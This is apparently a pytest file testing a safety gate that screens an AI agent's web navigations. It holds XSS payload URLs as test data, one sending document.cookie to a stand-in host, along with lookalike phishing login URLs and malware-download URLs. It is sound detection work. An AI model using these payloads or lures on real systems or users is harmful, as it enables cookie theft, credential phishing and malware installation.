"""Phishing-shaped navigations: working script in a URL's query, a sign-in page at a host that imitates a
brand, and a sign-in page at a bare public IP. Our own URLs; each class has its near misses."""

from __future__ import annotations

import pytest

from gate import SafetyGate, action_from_dict
from gate.model import Decision

GATE = SafetyGate()


def nav(url: str):
    return GATE.assess(action_from_dict({"type": "navigate", "url": url}))


SCRIPTED = ["http://shop.test/find?term=%3Csvg%20onload%3Dfetch(1)%3E",
            "https://forum.acme.dev/post?msg=<script>steal()</script>",
            "https://acme.dev/page#x=<script src=//cdn.evil.test/a.js></script>",
            "https://acme.dev/go?next=javascript:fetch('//x.test/'+document.cookie)"]


@pytest.mark.parametrize("url", SCRIPTED)
def test_script_that_runs_in_a_urls_query_blocks(url):
    a = nav(url)
    assert a.decision is Decision.BLOCK and "block.web.script-payload-url" in a.rules, (url, a.rules)


# near misses: a search about script tags asks at most; a search about javascript passes
@pytest.mark.parametrize("url", ["https://docs.acme.dev/search?q=%3Cscript%3E",
                                 "https://www.bing.com/search?q=javascript+closures",
                                 "https://acme.dev/search?q=onerror+event+handler"])
def test_markup_alone_or_prose_about_script_does_not_block(url):
    assert "block.web.script-payload-url" not in nav(url).rules


@pytest.mark.parametrize("url", ["https://paypal-account-check.com/signin", "https://micros0ft-support.net/login",
                                 "https://apple.com.id-restore.net/verify?user=1"])
def test_a_sign_in_page_at_a_host_imitating_a_brand_blocks(url):
    a = nav(url)
    assert a.decision is Decision.BLOCK and "block.web.lookalike-login" in a.rules, (url, a.rules)


@pytest.mark.parametrize("url", ["https://www.paypal.com/signin", "https://login.microsoftonline.com/common/oauth2",
                                 "https://paypal-account-check.com/about"])
def test_the_brands_own_sign_in_or_a_lookalike_without_one_does_not_block_as_phishing(url):
    assert "block.web.lookalike-login" not in nav(url).rules


@pytest.mark.parametrize("url", ["http://198.51.100.23/bank/login.php", "http://45.77.1.9/account/verify",
                                 "https://203.0.113.5:8443/wp-login.php"])
def test_a_sign_in_page_at_a_bare_public_ip_blocks(url):
    a = nav(url)
    assert a.decision is Decision.BLOCK and "block.web.ip-login" in a.rules, (url, a.rules)


@pytest.mark.parametrize("url", ["http://192.168.1.1/login", "http://127.0.0.1:8000/login",
                                 "http://198.51.100.23/status", "http://10.0.0.5/admin/signin"])
def test_a_routers_login_this_machine_or_an_ip_without_a_sign_in_page_is_not_ip_login(url):
    assert "block.web.ip-login" not in nav(url).rules


@pytest.mark.parametrize("url", [
    "http://198.51.100.44/bins/bot.arm7",  # a loader's folder of builds per CPU at a bare address
    "http://198.51.100.44/mips",
    "http://198.51.100.44/files/Setup.exe",
    "https://cdn.discordapp.com/attachments/11/22/Payment_Advice.scr",
    "http://office-update.duckdns.org/patch.ps1",
    "http://update-flashplayer.example-cdn.top/install_flash.msi",  # named like a scam
    "http://login.microsoftonline.com.cdn-sync.xyz/msdownload/update.ps1",  # a domain spelled as subdomains
])
def test_a_program_from_where_no_vendor_ships_programs_blocks(url):
    a = nav(url)
    assert a.decision is Decision.BLOCK and "block.web.malware-download" in a.rules, (url, a.rules)


@pytest.mark.parametrize(("url", "decision"), [
    ("https://www.python.org/ftp/python/3.12.4/python-3.12.4-amd64.exe", Decision.ALLOW),
    ("https://github.com/cli/cli/releases/download/v2.50.0/gh_2.50.0_windows_amd64.msi", Decision.CONFIRM),
    ("http://192.168.1.20/firmware/update.bin", Decision.CONFIRM),  # the local network: a device's own update
    ("http://198.51.100.44/docs/arm64", Decision.CONFIRM),  # a page about arm64, not a loader
    ("https://files.example.org/releases/tool-1.2.exe", Decision.CONFIRM),
])
def test_programs_from_vendors_and_the_local_network_pass_or_ask(url, decision):
    a = nav(url)
    assert a.decision is decision and "block.web.malware-download" not in a.rules, (url, a.rules)


@pytest.mark.parametrize("url", ["https://coinbase-wallet-recovery.app/restore", "https://paypal-account-verify.com/"])
def test_a_host_that_imitates_a_brand_and_is_named_like_a_scam_blocks(url):
    a = nav(url)
    assert a.decision is Decision.BLOCK and "block.web.lookalike-lure" in a.rules, (url, a.rules)


@pytest.mark.parametrize("url", ["https://free-robux-generator.net/", "https://paypa1.com/", "https://www.paypal.com/"])
def test_one_sign_alone_never_blocks_as_a_lure(url):
    assert "block.web.lookalike-lure" not in nav(url).rules, url
